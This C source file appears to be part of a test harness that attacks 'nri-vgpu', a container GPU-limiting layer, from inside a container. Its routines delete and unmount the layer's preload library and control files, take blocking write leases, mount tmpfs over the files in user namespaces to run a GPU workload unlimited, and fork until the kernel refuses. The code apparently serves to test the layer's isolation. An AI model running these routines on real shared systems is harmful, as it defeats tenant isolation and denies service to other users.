// SPDX-License-Identifier: Apache-2.0

// This file implements attacks on the container's mounts, and on the kernel's tables.

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

// wl_ours are nri-vgpu's files that affect the start of programs in the container.
static const char *const wl_ours[] = {
	"/etc/ld.so.preload",      "/usr/local/nri-vgpu/lib/libcuda.so.1",
	"/usr/local/nri-vgpu/lib", "/usr/local/nri-vgpu",
	"/run/nri-vgpu/limits",    "/run/nri-vgpu/usage",
	"/run/nri-vgpu",           "/usr/bin/vgpuctl",
};

enum { wl_ours_count = sizeof wl_ours / sizeof *wl_ours };

// wl_rename tries to move, remove and unmount each of nri-vgpu's files.
static void wl_rename(struct wl_attack *attack)
{
	char other[100];

	for (size_t i = 0; i < wl_ours_count; i++) {
		snprintf(other, sizeof other, "%s.moved", wl_ours[i]);
		wl_count(attack, umount2(wl_ours[i], MNT_DETACH));
		wl_count(attack, unlink(wl_ours[i]));
		wl_count(attack, rename(wl_ours[i], other));
		if (rename(other, wl_ours[i]) == 0)
			attack->done++;
	}
	wl_attack_rest(200);
}

// wl_unlink removes the file by which programs load nri-vgpu's library, from a volume that this
// container shares with another container.
static void wl_unlink(struct wl_attack *attack)
{
	wl_count(attack, unlink("/shared/ld.so.preload"));
	wl_attack_rest(50);
}

// wl_lease_files takes write leases on nri-vgpu's files. Each open of such a file by another process
// would wait, in other containers, too. wl_lease_files ignores requests to release the leases.
static void wl_lease_files(struct wl_attack *attack)
{
	static int files[wl_ours_count];

	signal(SIGIO, SIG_IGN);
	for (size_t i = 0; i < wl_ours_count; i++) {
		if (files[i] == 0)
			files[i] = open(wl_ours[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		if (files[i] > 0)
			wl_count(attack, fcntl(files[i], F_SETLEASE, F_WRLCK));
	}
	wl_attack_rest(1);
}

static void wl_write(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0)
		return;
	if (write(fd, text, strlen(text)) < 0)
		_exit(1);
	close(fd);
}

// wl_hide mounts over nri-vgpu's files in new namespaces, and runs fill in the namespaces.
__attribute__((noreturn)) static void wl_hide(void)
{
	static char *const fill[] = {"fill", "--max", "16MiB", "--hold", "1", NULL};

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		_exit(1);
	wl_write("/proc/self/setgroups", "deny");
	wl_write("/proc/self/uid_map", "0 0 1");
	wl_write("/proc/self/gid_map", "0 0 1");
	for (size_t i = 0; i < wl_ours_count; i++)
		mount("none", wl_ours[i], "tmpfs", 0, NULL);
	if (mount("none", "/etc", "tmpfs", 0, NULL))
		_exit(1);
	if (!freopen("/dev/null", "w", stdout) || !freopen("/dev/null", "w", stderr))
		_exit(1);
	execvp(fill[0], fill);
	_exit(1);
}

static void wl_namespaces(struct wl_attack *attack)
{
	pid_t child = fork();
	int status = -1;

	if (child == 0)
		wl_hide();
	if (child < 0 || waitpid(child, &status, 0) != child)
		status = -1;
	wl_count(attack, status == 0 ? 0 : -1);
	wl_attack_rest(500);
}

// wl_fork creates processes until the kernel refuses.
static void wl_fork(struct wl_attack *attack)
{
	pid_t child = fork();

	if (child == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		for (;;)
			pause();
	}
	wl_count(attack, child);
	wl_attack_rest(child < 0 ? 200 : 1);
}

const struct wl_attack_way wl_system_ways[] = {
	{"rename", "move, remove and unmount nri-vgpu's files", wl_rename},
	{"unlink", "remove /shared/ld.so.preload", wl_unlink},
	{"lease-files", "take write leases on nri-vgpu's files", wl_lease_files},
	{"namespaces", "mount over nri-vgpu's files in namespaces, and fill a GPU in these namespaces", wl_namespaces},
	{"fork", "fork until the kernel refuses", wl_fork},
	{NULL, NULL, NULL},
};
